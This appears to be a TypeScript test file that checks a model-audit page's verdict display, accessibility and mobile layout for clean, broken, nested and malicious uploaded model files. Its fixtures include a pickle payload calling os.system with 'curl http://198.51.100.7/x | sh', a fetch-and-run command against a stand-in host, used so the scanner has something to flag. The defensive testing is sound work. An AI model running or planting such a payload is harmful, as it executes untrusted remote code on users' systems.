import { checkpointOf, tarOf, zipOf } from '#tests/support/audit_set/archives'
import { pickle } from '#tests/support/audit_set/pickle_assembler'
import { assertAccessible } from '#tests/support/browser/page/accessible'
import { watch } from '#tests/support/browser/console/clean_console'
import { signIn } from '#tests/support/browser/sign_in'
import { widthOf } from '#tests/support/browser/page/width_of'
import { ownerForEach, workerForAll } from '#tests/support/groups'
import { auditEnds, upload } from '#tests/support/model_audits/server_audits'
import type { Persona } from '#tests/support/personas'
import type { ApiClient } from '@japa/api-client'
import { test } from '@japa/runner'

const MALICIOUS = pickle(2).call('os', 'system', 'curl http://198.51.100.7/x | sh').stop()
const WEIGHTS = pickle(2).raw('}q\x00.').toBuffer()
const LONG_NAME = `${'very-long-folder-name-'.repeat(6)}/${'weights_'.repeat(12)}.pkl`

const many = () =>
  zipOf(
    Array.from({ length: 6_000 }, (_, index) => ({
      name: `layers/${String(index).padStart(4, '0')}.pkl`,
      content: index % 5 === 0 ? MALICIOUS : WEIGHTS,
    }))
  )
const nested = () =>
  zipOf([
    { name: 'readme.md', content: '---\nlicense: cc-by-nc-4.0\n---\n' },
    {
      name: 'inner.tar',
      content: tarOf([
        { name: 'deeper.zip', content: zipOf([{ name: LONG_NAME, content: MALICIOUS }]) },
        { name: 'weights.pt', content: checkpointOf(WEIGHTS) },
      ]),
    },
  ])

const MODELS = [
  { kind: 'clean', file: 'weights.pt', bytes: () => checkpointOf(WEIGHTS), verdict: 'Clean' },
  { kind: 'malicious', file: 'model.pkl', bytes: () => MALICIOUS, verdict: 'Malicious' },
  {
    kind: 'broken',
    file: 'broken.zip',
    bytes: () => zipOf([{ name: 'a.pkl', content: WEIGHTS }]).subarray(0, 60),
    verdict: 'Suspicious',
  },
  { kind: 'nested', file: 'model.zip', bytes: nested, verdict: 'Malicious' },
  { kind: 'large', file: 'large.zip', bytes: many, verdict: 'Malicious' },
]

test.group('Console | model audit page', (group) => {
  let owner: Persona
  workerForAll(group)
  ownerForEach(group, (one) => (owner = one))

  const audited = async (client: ApiClient, name: string, bytes: Buffer) => {
    const uploadIds = [await upload(owner, name, bytes)]
    const order = { source: 'upload', uploadIds }
    const response = await client.post('/api/v1/model-audits').json(order).bearerToken(owner.token)
    response.assertStatus(201)
    return auditEnds(response.body().id)
  }

  test('the audit page of a {kind} model is accessible in light and dark mode and fits phones')
    .with(MODELS)
    .run(async ({ client, browserContext, assert }, { kind, file, bytes, verdict }) => {
      const { id } = await audited(client, file, bytes())
      await signIn(browserContext, owner.user)
      const page = await browserContext.newPage()
      const complaints = watch(page)
      await page.goto(`/model-audit/scan/${id}`)
      await page.getByText(verdict, { exact: true }).first().waitFor()
      await page.getByRole('region', { name: /files? read$/ }).waitFor()
      const notes = page.getByText(/^[\d,]+ of them are stored and shown\.$/)
      assert.equal(await notes.count(), kind === 'large' ? 2 : 0)
      for (const width of [1280, 360]) {
        await page.setViewportSize({ width, height: 800 })
        await assertAccessible(assert, page)
        assert.isAtMost(await widthOf(page), width, kind)
      }
      assert.deepEqual(complaints, [])
    })
    .timeout(90_000)
})
